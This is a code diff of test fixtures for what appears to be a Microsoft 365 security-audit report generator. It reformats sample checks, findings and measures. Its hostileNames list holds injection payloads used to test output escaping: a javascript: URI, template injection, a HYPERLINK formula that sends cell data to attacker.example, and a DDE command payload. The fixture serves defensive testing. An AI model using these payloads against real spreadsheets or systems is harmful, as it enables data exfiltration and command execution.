@@ -1,6 +1,6 @@
 import type { Finding } from '../../src/model/finding.ts';
-import { type CheckMetadata, type CheckResult, type ControlResult, type RetirementRecord, RunRecord } from '../../src/model/run-record.ts';
 import type { Measure } from '../../src/model/measure.ts';
+import { type CheckMetadata, type CheckResult, type ControlResult, type RetirementRecord, RunRecord } from '../../src/model/run-record.ts';
 
 /** Names a tenant may hold that try to become markup, a formula, a link or another text. */
 export const hostileNames: readonly string[] = [
@@ -10,7 +10,7 @@ export const hostileNames: readonly string[] = [
   '{{cover.tenantId}} {{{constructor}}} ${7*7}',
   'javascript:window.__pwned=1',
   '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '+49 30 1234',
   '-2+3',
   '\t=1+1',
@@ -50,40 +50,135 @@ export function checkMeta(overrides: Partial<CheckMetadata> & { id: string }): C
 }
 
 export function finding(id: string, name: string, more: Partial<Finding> = {}): Finding {
-  return { subject: { type: 'user', id, name }, message: `${name} is in the way.`, facts: { daysIdle: 143, lastSignInDateTime: '2026-03-30T08:12:44Z', enabled: true }, ...more };
+  return {
+    subject: { type: 'user', id, name },
+    message: `${name} is in the way.`,
+    facts: { daysIdle: 143, lastSignInDateTime: '2026-03-30T08:12:44Z', enabled: true },
+    ...more,
+  };
 }
 
 const checks: CheckMetadata[] = [
-  checkMeta({ id: 'legacy-auth-not-blocked', title: 'Old sign-in protocols are blocked for everyone', failTitle: 'Old sign-in protocols are not blocked for everyone', severity: 'critical' }),
-  checkMeta({ id: 'apps-with-takeover-permissions', area: 'apps', title: 'No app can make itself administrator', failTitle: 'Some apps can make themselves administrator', severity: 'critical' }),
+  checkMeta({
+    id: 'legacy-auth-not-blocked',
+    title: 'Old sign-in protocols are blocked for everyone',
+    failTitle: 'Old sign-in protocols are not blocked for everyone',
+    severity: 'critical',
+  }),
+  checkMeta({
+    id: 'apps-with-takeover-permissions',
+    area: 'apps',
+    title: 'No app can make itself administrator',
+    failTitle: 'Some apps can make themselves administrator',
+    severity: 'critical',
+  }),
   checkMeta({ id: 'guests-inactive', title: 'Guests who stay away lose access', failTitle: 'Guests who stay away keep access', severity: 'low' }),
-  checkMeta({ id: 'update-rings-not-tiered', area: 'updates', title: 'Updates are tested on a few computers first', failTitle: 'Updates reach all computers at once', severity: 'medium' }),
+  checkMeta({
+    id: 'update-rings-not-tiered',
+    area: 'updates',
+    title: 'Updates are tested on a few computers first',
+    failTitle: 'Updates reach all computers at once',
+    severity: 'medium',
+  }),
   checkMeta({ id: 'device-code-flow-not-blocked', title: 'Device code sign-in is blocked', failTitle: 'Device code sign-in is open', severity: 'high' }),
   checkMeta({ id: 'apps-unused', area: 'apps', title: 'Apps that nobody uses are removed', failTitle: 'Some apps are used by nobody', severity: 'low' }),
-  checkMeta({ id: 'windows-devices-behind', area: 'updates', title: 'Windows computers have the newest monthly update', failTitle: 'Some Windows computers lack the newest monthly update', severity: 'high', needs: ['managedDevices'] }),
-  checkMeta({ id: 'mail-apps-unscoped', area: 'apps', title: 'Apps that read mail are limited to named mailboxes', failTitle: 'Some apps read every mailbox', severity: 'high' }),
-  checkMeta({ id: 'outlook-addins-unreviewed', area: 'apps', title: 'Add-ins are approved', failTitle: 'Some add-ins were never approved', severity: 'medium' }),
-  checkMeta({ id: 'sign-in-risk-unprotected', title: 'Risky sign-ins are stopped', failTitle: 'Risky sign-ins are let in', severity: 'high', servicePlans: ['AAD_PREMIUM_P2'] }),
-  checkMeta({ id: 'federation-certificate-expiring', title: 'Federation certificates are valid for months', failTitle: 'A federation certificate ends soon', severity: 'high' }),
-  checkMeta({ id: 'mfa-not-required-admins', title: 'Administrators always need a second factor', failTitle: 'Some administrators need no second factor', severity: 'critical' }),
+  checkMeta({
+    id: 'windows-devices-behind',
+    area: 'updates',
+    title: 'Windows computers have the newest monthly update',
+    failTitle: 'Some Windows computers lack the newest monthly update',
+    severity: 'high',
+    needs: ['managedDevices'],
+  }),
+  checkMeta({
+    id: 'mail-apps-unscoped',
+    area: 'apps',
+    title: 'Apps that read mail are limited to named mailboxes',
+    failTitle: 'Some apps read every mailbox',
+    severity: 'high',
+  }),
+  checkMeta({
+    id: 'outlook-addins-unreviewed',
+    area: 'apps',
+    title: 'Add-ins are approved',
+    failTitle: 'Some add-ins were never approved',
+    severity: 'medium',
+  }),
+  checkMeta({
+    id: 'sign-in-risk-unprotected',
+    title: 'Risky sign-ins are stopped',
+    failTitle: 'Risky sign-ins are let in',
+    severity: 'high',
+    servicePlans: ['AAD_PREMIUM_P2'],
+  }),
+  checkMeta({
+    id: 'federation-certificate-expiring',
+    title: 'Federation certificates are valid for months',
+    failTitle: 'A federation certificate ends soon',
+    severity: 'high',
+  }),
+  checkMeta({
+    id: 'mfa-not-required-admins',
+    title: 'Administrators always need a second factor',
+    failTitle: 'Some administrators need no second factor',
+    severity: 'critical',
+  }),
 ];
 
 const results: CheckResult[] = [
-  { check: 'legacy-auth-not-blocked', verdict: 'fail', examined: 340, findings: hostileNames.map((name, at) => finding(`user-${at}`, name)), owner: 'IT operations', since: '2026-06-01' },
+  {
+    check: 'legacy-auth-not-blocked',
+    verdict: 'fail',
+    examined: 340,
+    findings: hostileNames.map((name, at) => finding(`user-${at}`, name)),
+    owner: 'IT operations',
+    since: '2026-06-01',
+  },
   {
     check: 'apps-with-takeover-permissions',
     verdict: 'fail',
     examined: 12,
-    findings: [finding('app-1', 'Payroll bridge', { subject: { type: 'servicePrincipal', id: 'app-1', name: 'Payroll bridge' } }), finding('app-2', 'Old scanner', { facts: {} })],
+    findings: [
+      finding('app-1', 'Payroll bridge', { subject: { type: 'servicePrincipal', id: 'app-1', name: 'Payroll bridge' } }),
+      finding('app-2', 'Old scanner', { facts: {} }),
+    ],
     accepted: { reason: 'Replaced in October.', approvedBy: 'Maria Keller', until: '2026-10-31', subjects: ['app-2'] },
   },
-  { check: 'guests-inactive', verdict: 'fail', findings: [finding('guest-1', '')], accepted: { reason: 'Known partner.', approvedBy: 'Maria Keller', until: '2026-12-31' } },
-  { check: 'update-rings-not-tiered', verdict: 'fail', examined: 1, findings: [finding('ring-1', 'Default ring')], accepted: { reason: 'Small company.', approvedBy: 'Jonas Weber', until: '2026-05-31' } },
+  {
+    check: 'guests-inactive',
+    verdict: 'fail',
+    findings: [finding('guest-1', '')],
+    accepted: { reason: 'Known partner.', approvedBy: 'Maria Keller', until: '2026-12-31' },
+  },
+  {
+    check: 'update-rings-not-tiered',
+    verdict: 'fail',
+    examined: 1,
+    findings: [finding('ring-1', 'Default ring')],
+    accepted: { reason: 'Small company.', approvedBy: 'Jonas Weber', until: '2026-05-31' },
+  },
   { check: 'device-code-flow-not-blocked', verdict: 'pass', examined: 7 },
   { check: 'apps-unused', verdict: 'pass', examined: 48 },
-  { check: 'windows-devices-behind', verdict: 'error', cause: { reason: 'permission', dataset: 'managedDevices', detail: 'GET /deviceManagement/managedDevices was refused (403).', fix: 'Grant DeviceManagementManagedDevices.Read.All.' } },
-  { check: 'mail-apps-unscoped', verdict: 'error', cause: { reason: 'check', detail: 'The service sent a value that was not published when this check was written.' } },
-  { check: 'outlook-addins-unreviewed', verdict: 'manual', steps: ['Open the list of integrated apps.', 'Ask the owner of each add-in whether it is still needed.'] },
+  {
+    check: 'windows-devices-behind',
+    verdict: 'error',
+    cause: {
+      reason: 'permission',
+      dataset: 'managedDevices',
+      detail: 'GET /deviceManagement/managedDevices was refused (403).',
+      fix: 'Grant DeviceManagementManagedDevices.Read.All.',
+    },
+  },
+  {
+    check: 'mail-apps-unscoped',
+    verdict: 'error',
+    cause: { reason: 'check', detail: 'The service sent a value that was not published when this check was written.' },
+  },
+  {
+    check: 'outlook-addins-unreviewed',
+    verdict: 'manual',
+    steps: ['Open the list of integrated apps.', 'Ask the owner of each add-in whether it is still needed.'],
+  },
   { check: 'sign-in-risk-unprotected', verdict: 'notLicensed', because: 'The tenant owns none of AAD_PREMIUM_P2.' },
   { check: 'federation-certificate-expiring', verdict: 'notApplicable', because: 'No domain is federated.' },
   { check: 'mfa-not-required-admins', verdict: 'pass', examined: 5 },
@@ -96,7 +191,16 @@ const controls: ControlResult[] = [
 ];
 
 const measures: Measure[] = [
-  { id: 'patchCoverage', label: 'Computers with the newest monthly update', value: 99.96, unit: 'percent', numerator: 2499, denominator: 2500, dataDate: '2026-08-19', series: [{ label: '7 days', value: 61 }] },
+  {
+    id: 'patchCoverage',
+    label: 'Computers with the newest monthly update',
+    value: 99.96,
+    unit: 'percent',
+    numerator: 2499,
+    denominator: 2500,
+    dataDate: '2026-08-19',
+    series: [{ label: '7 days', value: 61 }],
+  },
   { id: 'patchCoverage30', label: '30 days after release', value: null, unit: 'percent', because: 'The update is nine days old.' },
   { id: 'timeToPatch', label: 'Median time to patch', value: null, unit: 'days', because: 'This is the first scan.' },
   { id: 'ringBound', label: 'Longest time the slowest ring may take', value: 1, unit: 'days' },
@@ -104,7 +208,18 @@ const measures: Measure[] = [
 
 const base = { subjects: [], messageCenterIds: [], breaks: 'Apps that still call it stop.' };
 const retirements: RetirementRecord[] = [
-  { ...base, id: 'ews', title: 'Exchange Web Services', date: '2026-10-01', daysLeft: 42, exposure: 'exposed', subjects: [{ type: 'servicePrincipal', id: 'a', name: hostileNames[0] ?? '' }], messageCenterIds: ['MC123456'], check: 'apps-unused', confirm: true },
+  {
+    ...base,
+    id: 'ews',
+    title: 'Exchange Web Services',
+    date: '2026-10-01',
+    daysLeft: 42,
+    exposure: 'exposed',
+    subjects: [{ type: 'servicePrincipal', id: 'a', name: hostileNames[0] ?? '' }],
+    messageCenterIds: ['MC123456'],
+    check: 'apps-unused',
+    confirm: true,
+  },
   { ...base, id: 'aad-graph', title: 'Azure AD Graph', date: '2025-06-30', daysLeft: -416, exposure: 'exposed', because: 'Two apps hold its permissions.' },
   { ...base, id: 'acs', title: 'SharePoint ACS', date: '2026-12', daysLeft: 133, exposure: 'unknown', because: 'The list of apps could not be read.' },
   { ...base, id: 'addins', title: 'Legacy add-in tokens', date: null, daysLeft: null, exposure: 'manual', because: 'Ask each vendor.' },
@@ -121,7 +236,18 @@ export function sampleRun(overrides: Partial<RunRecord> = {}): RunRecord {
     finishedAt: '2026-08-20T12:04:40Z',
     advisoriesAsOf: '2026-07-06',
     datasets: [
-      { id: 'conditionalAccessPolicies', about: 'Rules for signing in', source: 'graph', path: '/identity/conditionalAccess/policies', permissions: ['Policy.Read.All'], ok: true, items: 7, pages: 1, requests: 1, at: '2026-08-20T12:01:00Z' },
+      {
+        id: 'conditionalAccessPolicies',
+        about: 'Rules for signing in',
+        source: 'graph',
+        path: '/identity/conditionalAccess/policies',
+        permissions: ['Policy.Read.All'],
+        ok: true,
+        items: 7,
+        pages: 1,
+        requests: 1,
+        at: '2026-08-20T12:01:00Z',
+      },
       {
         id: 'managedDevices',
         about: 'Computers and phones under management',
@@ -152,7 +278,12 @@ export function manyFindings(total: number, over: number): RunRecord {
   const per = Math.ceil(total / over);
   return sampleRun({
     checks: ids.map((id, at) => checkMeta({ id, severity: at % 9 === 0 ? 'critical' : 'medium' })),
-    results: ids.map((check) => ({ check, verdict: 'fail' as const, examined: per, findings: Array.from({ length: per }, (_, at) => finding(`${check}-${at}`, `Person number ${at} of ${check}`)) })),
+    results: ids.map((check) => ({
+      check,
+      verdict: 'fail' as const,
+      examined: per,
+      findings: Array.from({ length: per }, (_, at) => finding(`${check}-${at}`, `Person number ${at} of ${check}`)),
+    })),
     controls: [],
   });
 }
